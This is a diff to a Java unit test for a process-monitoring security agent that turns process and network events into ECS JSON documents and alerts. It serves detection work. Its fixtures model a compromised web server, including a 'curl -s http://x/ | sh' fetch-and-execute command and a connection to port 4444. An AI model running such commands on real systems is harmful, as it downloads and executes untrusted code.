@@ -2,6 +2,7 @@ package io.spawnwatch.ecs;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertNotEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.fasterxml.jackson.core.JsonFactory;
@@ -14,10 +15,12 @@ import io.spawnwatch.enrich.EnrichedEvent;
 import io.spawnwatch.enrich.ProcessTable;
 import io.spawnwatch.enrich.UserNames;
 import io.spawnwatch.event.TestRecords;
+import io.spawnwatch.rules.model.RuleMetadata;
 import java.io.StringWriter;
 import java.lang.foreign.MemorySegment;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.List;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -28,8 +31,10 @@ class EcsEventWriterTest {
     @TempDir
     Path dir;
     private EnrichedEvent event;
+    static final HostIdentity HOST = TestIdentities.host("web1");
+    static final AgentIdentity AGENT = TestIdentities.agent("web1");
+    private final EcsEventWriter writer = new EcsEventWriter(HOST, AGENT);
     private ProcessTable table;
-    private final EcsEventWriter writer = new EcsEventWriter("web1");
 
     @BeforeEach
     void setUp() throws Exception {
@@ -60,6 +65,196 @@ class EcsEventWriterTest {
         return JSON.readTree(out.toString());
     }
 
+    private JsonNode alert(RuleMetadata rule, long repeats) throws Exception {
+        StringWriter out = new StringWriter();
+        try (JsonGenerator g = new JsonFactory().createGenerator(out)) {
+            writer.writeAlert(g, event, rule, repeats);
+        }
+        return JSON.readTree(out.toString());
+    }
+
+    /**
+     * The one table of names (Field.ecsName) and the writer agree: every field
+     * a rule can read is written under its ECS name with the value the rule sees.
+     */
+    @Test
+    void shouldWriteEveryRuleFieldUnderTheEcsNameOfTheTable() throws Exception {
+        List<String> checked = new java.util.ArrayList<>();
+        for (MemorySegment r : List.of(
+                TestRecords.withParentCwd(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash",
+                        "/var/www/html", "/usr/sbin/php-fpm8.2", 33, 100, 2, "sh", "-c", "id"), "/var/www"),
+                TestRecords.connect(200, 100, "php-fpm8.2", "php-fpm8.2", 33, 100, 1, "10.0.0.5", "203.0.113.9",
+                        4444))) {
+            wrap(r);
+            JsonNode d = document();
+            for (io.spawnwatch.event.Field f : io.spawnwatch.event.Field.values()) {
+                if (f.ecsName() == null) {
+                    continue;
+                }
+                JsonNode n = d.at("/" + f.ecsName().replace('.', '/'));
+                if (f.kind() == io.spawnwatch.event.Field.Kind.LIST) {
+                    List<String> items = new java.util.ArrayList<>();
+                    for (CharSequence item = event.item(f, 0); item != null; item = event.item(f, items.size())) {
+                        items.add(item.toString());
+                    }
+                    List<String> written = new java.util.ArrayList<>();
+                    n.forEach(x -> written.add(x.asText()));
+                    assertEquals(items, written, f.ecsName());
+                } else if (f.kind() == io.spawnwatch.event.Field.Kind.NUMBER) {
+                    long v = event.number(f);
+                    assertEquals(v == io.spawnwatch.event.EventView.ABSENT ? null : Long.toString(v),
+                            n.isMissingNode() ? null : n.asText(), f.ecsName());
+                } else {
+                    CharSequence v = event.text(f);
+                    assertEquals(v == null ? null : v.toString(), n.isMissingNode() ? null : n.asText(),
+                            f.ecsName());
+                }
+                if (!n.isMissingNode()) {
+                    checked.add(f.ecsName());
+                }
+            }
+        }
+        assertTrue(checked.containsAll(List.of("process.executable", "process.args", "process.parent.args",
+                "user.id", "process.real_user.id", "destination.ip", "spawnwatch.lineage.root.pid")), checked.toString());
+    }
+
+    @Test
+    void shouldGiveEachProcessOneEntityIdThatItsChildrenCarryAsTheirParents() throws Exception {
+        wrap(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
+                33, 100, 2, "sh", "-c", "curl -s http://x/ | sh"));
+        JsonNode shell = document();
+        wrap(TestRecords.exec(301, 300, "curl", "sh", "/usr/bin/curl", "/var/www/html", "/usr/bin/dash",
+                33, 100, 3, "curl", "-s", "http://x/"));
+        JsonNode curl = document();
+        String shellId = shell.at("/process/entity_id").asText();
+        assertEquals(20, shellId.length(), shellId);
+        assertEquals(shellId, curl.at("/process/parent/entity_id").asText());
+        assertNotEquals(shellId, curl.at("/process/entity_id").asText());
+        assertEquals(shell.at("/process/start").asText(), curl.at("/process/parent/start").asText());
+        // The same pid and start on another host (or after a reboot) is another process.
+        HostIdentity other = new HostIdentity("ffffffffffffffffffffffffffffffff", "web2", null, null, null, null, null,
+                null, "x86_64", HOST.bootId());
+        assertNotEquals(shellId, new EntityIds(other).of(300, TestRecords.startBootNanos(300)));
+        assertEquals(shellId, new EntityIds(HOST).of(300, TestRecords.startBootNanos(300)));
+    }
+
+    private static void setProcessField(MemorySegment r, int offset, long value, boolean wide) {
+        long at = io.spawnwatch.event.RecordDescriptor.PROCESS_OFFSET + offset;
+        if (wide) {
+            r.set(java.lang.foreign.ValueLayout.JAVA_LONG_UNALIGNED, at, value);
+        } else {
+            r.set(java.lang.foreign.ValueLayout.JAVA_INT_UNALIGNED, at, (int) value);
+        }
+    }
+
+    @Test
+    void shouldGiveTheSameEntityIdFromItsCacheAsFromAFreshHash() {
+        EntityIds cached = new EntityIds(HOST);
+        java.util.Set<String> distinct = new java.util.HashSet<>();
+        for (int round = 0; round < 2; round++) {
+            for (int pid = 1; pid <= 300; pid++) {
+                long start = 1_000_000_000L * pid + round; // two processes per pid: a reuse
+                String id = cached.of(pid, start);
+                assertEquals(new EntityIds(HOST).of(pid, start), id);
+                distinct.add(id);
+            }
+        }
+        assertEquals(600, distinct.size());
+        assertEquals(null, cached.of(5, 0));
+    }
+
+    @Test
+    void shouldLeaveTheParentEntityIdOutWhenItsStartIsUnknown() throws Exception {
+        MemorySegment r = TestRecords.exec(300, 777, "sh", "nginx", "/usr/bin/dash", "/var/www", "/usr/sbin/nginx",
+                33, 777, 1, "sh", "-c", "id");
+        setProcessField(r, io.spawnwatch.event.ProcessDescriptor.PARENT_START_BOOT_NS_OFFSET, 0, true);
+        wrap(r);
+        JsonNode d = document();
+        assertTrue(d.at("/process/entity_id").isTextual());
+        assertTrue(d.at("/process/parent/entity_id").isMissingNode(), d.toString());
+        assertTrue(d.at("/process/parent/start").isMissingNode(), d.toString());
+    }
+
+    @Test
+    void shouldWriteTheTerminalSessionGroupAndEffectiveGroup() throws Exception {
+        MemorySegment r = TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html",
+                "/usr/sbin/php-fpm8.2", 33, 100, 2, "sh", "-c", "id");
+        setProcessField(r, io.spawnwatch.event.ProcessDescriptor.TTY_OFFSET, (136 << 8) | 3, false); // /dev/pts/3
+        setProcessField(r, io.spawnwatch.event.ProcessDescriptor.SID_OFFSET, 250, false);
+        setProcessField(r, io.spawnwatch.event.ProcessDescriptor.PGID_OFFSET, 290, false);
+        setProcessField(r, io.spawnwatch.event.ProcessDescriptor.EGID_OFFSET, 0, false);
+        wrap(r);
+        JsonNode d = document();
+        assertTrue(d.at("/process/interactive").asBoolean());
+        assertEquals(136, d.at("/process/tty/char_device/major").asInt());
+        assertEquals(3, d.at("/process/tty/char_device/minor").asInt());
+        assertEquals(250, d.at("/process/session_leader/pid").asInt());
+        assertEquals(290, d.at("/process/group_leader/pid").asInt());
+        assertEquals("0", d.at("/process/group/id").asText());
+        assertEquals("0", d.at("/group/id").asText());
+        assertEquals("33", d.at("/process/real_group/id").asText());
+        // The lineage root as an instance: its entity id is the one its own documents carry.
+        assertEquals(new EntityIds(HOST).of(100, TestRecords.startBootNanos(100)),
+                d.at("/spawnwatch/lineage/root/entity_id").asText());
+
+        wrap(TestRecords.exec(301, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
+                33, 100, 2, "sh", "-c", "id"));
+        JsonNode noTerminal = document();
+        assertFalse(noTerminal.at("/process/interactive").asBoolean());
+        assertTrue(noTerminal.at("/process/tty").isMissingNode());
+    }
+
+    @Test
+    void shouldWriteHostAgentAndEcsVersionAndAnIdPerDocument() throws Exception {
+        wrap(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
+                33, 100, 2, "sh", "-c", "id"));
+        JsonNode a = document();
+        JsonNode b = document();
+        assertEquals("9.3.0", a.at("/ecs/version").asText());
+        assertEquals("4c4c4544004e3510804bb4c04f4e3232", a.at("/host/id").asText());
+        assertEquals("linux", a.at("/host/os/type").asText());
+        assertEquals("debian", a.at("/host/os/family").asText());
+        assertEquals("debian", a.at("/host/os/platform").asText());
+        assertEquals("Debian GNU/Linux", a.at("/host/os/name").asText());
+        assertEquals("12 (bookworm)", a.at("/host/os/version").asText());
+        assertEquals("6.18.0-test", a.at("/host/os/kernel").asText());
+        assertEquals("x86_64", a.at("/host/architecture").asText());
+        assertEquals(AGENT.id(), a.at("/agent/id").asText());
+        assertEquals("spawnwatch", a.at("/agent/type").asText());
+        assertEquals("0.1.0", a.at("/agent/version").asText());
+        assertEquals("web1", a.at("/agent/name").asText());
+        assertNotEquals(a.at("/event/id").asText(), b.at("/event/id").asText());
+        assertEquals(32, a.at("/event/id").asText().length());
+        assertTrue(java.time.Instant.parse(a.at("/event/created").asText()).isAfter(java.time.Instant.now().minusSeconds(60)));
+    }
+
+    @Test
+    void shouldTellTheEffectiveUserFromTheRealOne() throws Exception {
+        MemorySegment r = TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html",
+                "/usr/sbin/php-fpm8.2", 33, 100, 2, "sh", "-c", "id");
+        r.set(java.lang.foreign.ValueLayout.JAVA_INT_UNALIGNED,
+                io.spawnwatch.event.RecordDescriptor.PROCESS_OFFSET + io.spawnwatch.event.ProcessDescriptor.EUID_OFFSET, 0);
+        wrap(r); // a setuid-root program run by www-data
+        JsonNode d = document();
+        assertEquals("0", d.at("/process/user/id").asText());
+        assertEquals("root", d.at("/process/user/name").asText());
+        assertEquals("0", d.at("/user/id").asText());
+        assertEquals("33", d.at("/process/real_user/id").asText());
+        assertEquals("www-data", d.at("/process/real_user/name").asText());
+    }
+
+    @Test
+    void shouldGiveAnAlertAOneLineMessage() throws Exception {
+        wrap(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
+                33, 100, 2, "sh", "-c", "id\nuname -a"));
+        RuleMetadata rule = io.spawnwatch.rules.Rules.compile(io.spawnwatch.rules.Rules.rule("process_creation",
+                "    sel:\n        ProcessName: sh\n    condition: sel\n")).metadata();
+        JsonNode d = alert(rule, 3);
+        assertEquals("t: php-fpm8.2 > php-fpm8.2 > sh ran 'sh -c id uname -a' as www-data (pid 300) on web1;"
+                + " 3 repeats suppressed before", d.at("/message").asText());
+        assertEquals("alert", d.at("/event/kind").asText());
+    }
+
     @Test
     void shouldWriteAnExecAsAnEcsProcessStartWithItsLineage() throws Exception {
         wrap(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
@@ -80,6 +275,8 @@ class EcsEventWriterTest {
         assertEquals(200, d.at("/process/parent/pid").asInt());
         assertEquals("php-fpm8.2", d.at("/process/parent/name").asText());
         assertEquals("php-fpm: pool www", d.at("/process/parent/command_line").asText());
+        assertEquals("[\"php-fpm: pool www\"]", d.at("/process/parent/args").toString());
+        assertEquals(1, d.at("/process/parent/args_count").asInt());
         assertEquals("33", d.at("/user/id").asText());
         assertEquals("www-data", d.at("/user/name").asText());
         assertEquals(2, d.at("/spawnwatch/lineage/depth").asInt());
